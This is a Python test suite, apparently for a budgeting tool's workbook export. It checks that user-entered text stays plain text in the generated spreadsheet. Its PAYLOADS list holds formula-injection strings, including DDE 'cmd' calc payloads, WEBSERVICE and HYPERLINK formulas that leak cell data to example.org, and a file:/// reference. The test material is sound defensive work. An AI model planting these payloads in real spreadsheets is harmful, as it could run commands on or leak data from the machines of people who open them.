"""Whatever people write stays text: no payload becomes a formula, breaks the file, or moves a total."""

import re
from collections.abc import Iterator, Mapping
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree
from zipfile import ZipFile

import openpyxl
import pytest
from openpyxl.cell import Cell

from fairbudget.assessment import Assessment
from fairbudget.budget import Budget, Override, Partner
from fairbudget.problems import Problem
from fairbudget.reading.file.xlsx import ESCAPED
from fairbudget.writing.workbook import write_workbook
from spreadsheet import Place, Value, change_cells, recalculate, values
from workbook_budgets import assessed, cost, d, own, project, time
from workbook_tables import exactly, table

PAYLOADS = (
    "=1+1",
    "+1",
    "-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "=HYPERLINK(\"https://example.org/?x=\"&A1,\"click\")",
    "=cmd|'/C calc'!A0",
    "=WEBSERVICE(\"https://example.org\")",
    "{=1+1}",
    "{=SUM(A1:A9)}",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "'=1+1",
    "\"=1+1\"",
    ";=1+1",
    "%0A=1+1",
    "=Rates!C4",
    "=[1]Sheet!A1",
    "='file:///etc/hostname'#$Sheet.A1",
    "#REF!",
    "*",
    "?",
    "~",
    "~*",
    "a*",
    "TRUE",
    "1e3",
    "007",
    "01/02/2026",
    "x" * 300,
    "👩\u200d🔬 brokerage 🧾",
    "\u202e=1+1\u202c",
    "مرحبا =1+1",
    "</t></si><si><t>",
    "<c r=\"A1\"><f>1+1</f></c>",
    "&amp;<![CDATA[=1+1]]>",
    "_x003D_1+1",
    "_x0041_",
    "a\x00b\x01c\x08d\x0be\x1ff",
    "a\ufffeb\uffffc",
    "https://example.org/a?b=c",
    "mailto:somebody@example.org",
    "internal:Rates!A1",
    "&P&F&\"Arial\"",
    "[Red]0;=1",
    "Line one\nline two",
)  # fmt: skip
SHEETS = [
    "Summary", "Lines", "Fairness", "Fixes", "Checks", "Rates", "Sources", "Changes", "Method",
    "Project", "Partners", "Time", "Costs", "Overrides", "Lists",
]  # fmt: skip


def hostile() -> Budget:
    """A budget in which every word that people can write is a payload, and every amount can be told apart."""
    partners = tuple(
        Partner(
            name=payload,
            where=f"Partners!A{i}",
            type="vcse",
            overhead="percent" if i % 3 else "amount",
            overhead_value=d("0.1") if i % 3 else Decimal(i),
            on_costs="employee",
            notes=payload,
        )
        for i, payload in enumerate(PAYLOADS, 2)
    )
    lines = tuple(
        time(
            payload,
            payload,
            where=f"Time!{i}",
            role=payload,
            quantity=Decimal(i),
            unpaid_hours_each=d("0.5"),
            notes=payload,
            own_rate=own(f"{10 + i}.01", "hour", "wage", payload),
        )
        for i, payload in enumerate(PAYLOADS, 2)
    )
    costs = tuple(
        cost(
            payload, payload, where=f"Costs!{i}", label=payload, quantity=Decimal(i), unit_cost=d("1.01"), notes=payload
        )
        for i, payload in enumerate(PAYLOADS, 2)
    )
    counted = cost("all of it", PAYLOADS[0], fraction=d("0.1"), fraction_of=PAYLOADS)
    overrides = tuple(
        Override(rate_code=payload, amount=Decimal(i), per="hour", reason=payload, agreed_by=payload, source=payload)
        for i, payload in enumerate(PAYLOADS, 2)
    )
    problems = tuple(
        Problem(code="line_twice", severity="check", where=payload, found=payload, message=payload, fix=payload)
        for payload in PAYLOADS
    )
    return Budget(
        project=project(title=PAYLOADS[0], lead_organisation=PAYLOADS[1], reference_partner=PAYLOADS[2]),
        partners=partners,
        time=lines,
        costs=(*costs, counted),
        overrides=overrides,
        problems=problems,
        file_name="=1+1|'cmd'.xlsx",
    )


@pytest.fixture(scope="module")
def assessment() -> Assessment:
    return assessed(hostile())


@pytest.fixture(scope="module")
def written(assessment: Assessment, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.xlsx"
    write_workbook(assessment, path)
    return path


@pytest.fixture(scope="module")
def recalculated(written: Path) -> Mapping[Place, Value]:
    [path] = recalculate([written], written.parent / "recalculated")
    return values(path)


def readable(text: str) -> str:
    """What a person can tell of a text: no line ends, spaces, or characters that XML cannot hold."""
    letters = ESCAPED.sub(lambda found: chr(int(found[1], 16)), text)
    # LibreOffice spells out the two characters that are none.
    return re.sub(r"[\x00-\x1f\ufffe\uffff\s]|_xfff[ef]_", "", letters)


def read(payload: str) -> str:
    """The same of a payload itself, whose _x0041_ is no letter A."""
    return re.sub(r"[\x00-\x1f\ufffe\uffff\s]", "", payload)


def test_every_payload_is_there() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) > 30


def test_every_part_of_the_file_is_sound_xml(written: Path) -> None:
    with ZipFile(written) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels", ".vml")):
                ElementTree.fromstring(archive.read(name))  # noqa: S314 - made by this test


def cells(path: Path) -> Iterator[tuple[str, Cell]]:
    for sheet in openpyxl.load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            yield from ((sheet.title, cell) for cell in row if isinstance(cell, Cell))


def test_no_formula_holds_a_word_that_people_wrote(written: Path) -> None:
    words = '"adds up"|"does not add up"|"not applicable"|"Brokerage"|"Pre-application"|"Grant"|"Nobody"'
    ours = re.compile(rf"=([A-Za-z0-9_ !$:(),+\-*/^<>=]|{words})+")
    found = [(sheet, cell) for sheet, cell in cells(written) if cell.data_type == "f"]
    assert len(found) > len(PAYLOADS)
    for sheet, cell in found:
        assert sheet in ("Summary", "Lines", "Fairness", "Fixes", "Checks", "Rates")
        assert ours.fullmatch(str(cell.value)), (sheet, cell.coordinate, cell.value)


def test_nothing_that_people_wrote_is_a_link_or_the_name_of_a_sheet(written: Path) -> None:
    book = openpyxl.load_workbook(written)
    assert book.sheetnames == SHEETS
    assert all(re.fullmatch(r"(rate|list|_xlnm)\w+", name) for name in book.defined_names)
    with ZipFile(written) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    assert not any("<hyperlink" in xml or 'TargetMode="External"' in xml for xml in parts.values())


def test_what_begins_like_a_formula_is_marked_as_quoted_wherever_it_stands(written: Path) -> None:
    found = [
        (sheet, cell)
        for sheet, cell in cells(written)
        if cell.data_type == "s" and re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", str(cell.value))
    ]
    assert len(found) > 10 * len(PAYLOADS)
    for sheet, cell in found:
        assert cell.quotePrefix, (sheet, cell.coordinate)


@pytest.mark.spreadsheet
def test_libreoffice_shows_every_payload_as_it_was_written(recalculated: Mapping[Place, Value]) -> None:
    lines = table(recalculated, "Lines")
    assert [readable(str(row["Line"])) for row in lines[: len(PAYLOADS)]] == [read(one) for one in PAYLOADS]
    for sheet, column in (("Partners", "A"), ("Time", "A"), ("Time", "C"), ("Costs", "B"), ("Overrides", "A")):
        for number, payload in enumerate(PAYLOADS, 2):
            shown = recalculated[sheet, f"{column}{number}"]
            assert isinstance(shown, str), (sheet, number)
            assert readable(shown) == read(payload), (sheet, number)


@pytest.mark.spreadsheet
def test_no_payload_moves_an_amount(assessment: Assessment, recalculated: Mapping[Place, Value]) -> None:
    assert assessment.totals.cost is not None
    lines = table(recalculated, "Lines")
    assert [exactly(row["Cost"]) for row in lines] == [exactly(line.cost) for line in assessment.lines]
    summary = table(recalculated, "Summary")
    assert exactly(summary[0]["Cost"]) == exactly(assessment.totals.cost)
    parts = [row for row in summary if row["By"] == "Partner"]
    assert [exactly(row["Cost"]) for row in parts] == [exactly(part) for part in assessment.totals.by_partner.values()]


@pytest.mark.spreadsheet
def test_a_payload_typed_over_a_name_in_libreoffice_stays_text(written: Path) -> None:
    place = ("Partners", "A2")
    path = change_cells(written, {place: "=1+1"}, written.with_name("typed.xlsx"))
    assert values(path)[place] == "=1+1"
